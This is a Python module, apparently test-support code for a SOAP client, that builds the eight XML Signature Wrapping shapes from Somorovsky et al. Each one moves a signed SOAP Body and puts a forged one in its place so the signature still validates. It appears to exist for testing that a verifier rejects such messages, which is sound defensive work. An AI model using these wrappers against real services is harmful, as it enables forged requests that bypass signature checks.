"""Signature wrapping: a signed message in which the signed part was moved, and another forged.

The eight shapes are those of Somorovsky et al., "On Breaking SAML" (XSW 1 to 8), carried over from
a signed assertion to a signed SOAP Body: where the true part goes, and whether the forged one
carries its id, another, or none. In every one of them the signature itself still holds.
"""

from __future__ import annotations

import copy
from collections.abc import Callable

from lxml import etree

from vanzelf.sources.magda.question import SOAP
from vanzelf.sources.magda.security.algorithms import DS, WSSE, WSU
from vanzelf.sources.magda.xml import Element

ID = f"{{{WSU}}}Id"
Forge = Callable[[Element], None]
"""Changes a Body into what the attacker wants to be read."""


def _wrapper(parent: Element) -> Element:
    return etree.SubElement(parent, "Wrapper")


def _body(root: Element) -> Element:
    return root.find(f"{{{SOAP}}}Body")


def _header(root: Element) -> Element:
    return root.find(f"{{{SOAP}}}Header")


def _signature(root: Element) -> Element:
    return next(root.iter(f"{{{DS}}}Signature"))


def _forged(root: Element, forge: Forge, name: str | None) -> Element:
    """A forged Body, with this id."""
    body = copy.deepcopy(_body(root))
    body.attrib.pop(ID)
    if name:
        body.set(ID, name)
    forge(body)
    return body


def _swap(root: Element, forged: Element, place: Element) -> None:
    """The forged Body in the place of the true one, which goes elsewhere."""
    true = _body(root)
    root.replace(true, forged)
    place.append(true)


def in_header_without_id(root: Element, forge: Forge) -> None:
    """1: the true Body in a wrapper in the Header; the forged one has no id."""
    _swap(root, _forged(root, forge, None), _wrapper(_header(root)))


def in_header_with_own_id(root: Element, forge: Forge) -> None:
    """2: the same; the forged one has an id of its own."""
    _swap(root, _forged(root, forge, "forged"), _wrapper(_header(root)))


def in_header_with_same_id(root: Element, forge: Forge) -> None:
    """3: the same; both have the same id, so that it depends on who looks."""
    _swap(root, _forged(root, forge, _body(root).get(ID)), _wrapper(_header(root)))


def in_security(root: Element, forge: Forge) -> None:
    """4: the true Body in the Security header itself, beside the signature."""
    security = next(root.iter(f"{{{WSSE}}}Security"))
    _swap(root, _forged(root, forge, "forged"), _wrapper(security))


def in_object(root: Element, forge: Forge) -> None:
    """5: the true Body in an Object of the signature, where XML Signature allows anything."""
    place = etree.SubElement(_signature(root), f"{{{DS}}}Object")
    _swap(root, _forged(root, forge, "forged"), place)


def in_forged_body(root: Element, forge: Forge) -> None:
    """6: the true Body inside the forged one."""
    forged = _forged(root, forge, "forged")
    _swap(root, forged, _wrapper(forged))


def beside_forged_body(root: Element, forge: Forge) -> None:
    """7: two Bodies in the envelope: the forged one first."""
    root.insert(list(root).index(_body(root)), _forged(root, forge, "forged"))


def in_inner_envelope(root: Element, forge: Forge) -> None:
    """8: the whole true envelope, signature and all, in the Header of a forged one."""
    true = copy.deepcopy(root)
    forged = _forged(root, forge, None)
    root.replace(_body(root), forged)
    for each in list(_header(root)):
        _header(root).remove(each)
    _wrapper(_header(root)).append(true)


SHAPES: tuple[Callable[[Element, Forge], None], ...] = (
    in_header_without_id,
    in_header_with_own_id,
    in_header_with_same_id,
    in_security,
    in_object,
    in_forged_body,
    beside_forged_body,
    in_inner_envelope,
)


def wrapped(message: bytes, shape: Callable[[Element, Forge], None], forge: Forge) -> bytes:
    """The message in one of the eight shapes."""
    root = etree.fromstring(message)
    shape(root, forge)
    return etree.tostring(root, encoding="UTF-8", xml_declaration=True)
